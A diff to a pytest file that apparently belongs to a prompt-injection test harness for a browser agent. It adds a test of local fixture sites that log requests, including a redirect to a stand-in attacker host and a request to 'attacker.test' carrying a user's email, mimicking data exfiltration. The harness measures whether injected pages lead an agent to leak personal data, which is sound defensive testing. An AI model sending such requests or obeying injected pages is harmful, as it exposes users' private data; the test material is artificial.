@@ -19,7 +19,7 @@ import pytest
 import trio
 
 from tests.support.injection_suite import ATTACKS, Attack, Run, open_web, run_attack
-from tests.support.injection_web import WEB_ROOT
+from tests.support.injection_web import WEB_ROOT, Web, serve_web
 from tests.support.obedient import PERSON, instructions
 
 pytestmark = pytest.mark.browser
@@ -135,3 +135,39 @@ async def test_harm_is_done_and_seen_when_the_person_says_yes() -> None:
     assert run.harmed
     (post,) = run.evidence.sent("forum.test", "POST", "/reply")
     assert post.carries(PERSON.email)
+
+
+async def _exchange(port: int, raw: bytes) -> bytes:
+    stream = await trio.open_tcp_stream("127.0.0.1", port)
+    async with stream:
+        await stream.send_all(raw)
+        answer = b""
+        while chunk := await stream.receive_some(65536):
+            answer += chunk
+    return answer
+
+
+async def test_the_sites_log_every_request_before_answering_it(nursery: trio.Nursery) -> None:
+    """The fixture sites log each request (method, site, path, query, body) and answer a
+    write with success, ``/go`` with a redirect, ``/files/`` as an attachment, and the
+    attacker's collecting endpoint with thanks."""
+    web: Web = await nursery.start(serve_web)
+    post = b"POST /api/orders HTTP/1.1\r\nHost: shop.test\r\nContent-Length: 5\r\n\r\n1-tap"
+    assert b'{"ok": true}' in await _exchange(web.port, post)
+    redirect = b"GET /go?to=http://attacker.test/c/x HTTP/1.1\r\nHost: shop.test:80\r\n\r\n"
+    assert b"Location: http://attacker.test/c/x" in await _exchange(web.port, redirect)
+    download = b"GET /files/a.exe HTTP/1.1\r\nHost: mail.test\r\n\r\n"
+    assert b'Content-Disposition: attachment; filename="a.exe"' in await _exchange(
+        web.port, download
+    )
+    collect = b"GET /c/q?e=sam%40mail.test HTTP/1.1\r\nHost: attacker.test\r\n\r\n"
+    assert b"200 OK" in await _exchange(web.port, collect)
+    assert [str(h) for h in web.hits] == [
+        "POST shop.test/api/orders",
+        "GET shop.test/go?to=http://attacker.test/c/x",
+        "GET mail.test/files/a.exe",
+        "GET attacker.test/c/q?e=sam%40mail.test",
+    ]
+    assert web.hits[0].body == "1-tap"
+    assert web.hits[0].changes_state
+    assert web.hits[3].carries("sam@mail.test")
